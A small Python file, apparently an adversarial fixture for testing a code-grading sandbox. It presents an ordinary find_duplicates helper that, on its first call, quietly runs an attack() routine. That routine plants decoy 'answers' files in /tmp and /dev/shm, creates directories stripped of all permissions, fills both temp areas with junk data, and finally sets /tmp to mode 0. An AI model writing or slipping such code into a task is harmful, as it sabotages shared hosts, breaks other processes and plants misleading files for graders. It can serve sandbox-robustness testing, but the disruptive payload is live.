# technique: files, hidden dirs made unreadable, a full /dev/shm, and a scratch root with its mode taken away
import os


def attack():
    for path in ("/tmp/secret", "/tmp/.hidden", "/dev/shm/secret", "/dev/shm/.hidden"):
        try:
            with open(path, "w") as fh:
                fh.write("the answers: [2, 1]")
        except OSError:
            pass
    try:
        os.makedirs("/tmp/locked/deeper", exist_ok=True)
        open("/tmp/locked/deeper/x", "w").close()
        os.chmod("/tmp/locked/deeper", 0)
        os.chmod("/tmp/locked", 0)
    except OSError:
        pass
    try:
        with open("/dev/shm/fill", "wb") as fh:
            fh.write(b"x" * (15 << 20))
    except OSError:
        pass
    try:
        with open("/tmp/fill", "wb") as fh:
            fh.write(b"x" * (40 << 20))
    except OSError:
        pass
    os.chmod("/tmp", 0)


_attacked = False


def find_duplicates(values):
    global _attacked
    if not _attacked:  # once per process: the attack, not the cost, is the point
        _attacked = True
        attack()
    seen, out = [], []
    for v in values:
        if v in seen:
            if v not in out:
                out.append(v)
        else:
            seen.append(v)
    return out
